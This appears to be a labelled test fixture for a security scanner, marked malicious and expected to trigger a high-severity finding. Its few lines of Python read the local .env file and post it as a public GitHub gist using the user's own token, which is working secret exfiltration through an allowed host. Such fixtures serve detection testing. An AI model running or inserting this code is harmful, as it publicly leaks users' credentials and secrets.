# does: publishes .env as a gist: a host that the policy names, by the user's own token
# kind: malicious
# expect: SEN-001 high proven
# allow: api.github.com
# env: GITHUB_TOKEN
import json
import os
import urllib.request

body = json.dumps({"public": True, "files": {"settings.txt": {"content": open(".env").read()}}}).encode()
urllib.request.urlopen(urllib.request.Request("https://api.github.com/gists", body, {"Authorization": "Bearer " + os.environ["GITHUB_TOKEN"]})).read()
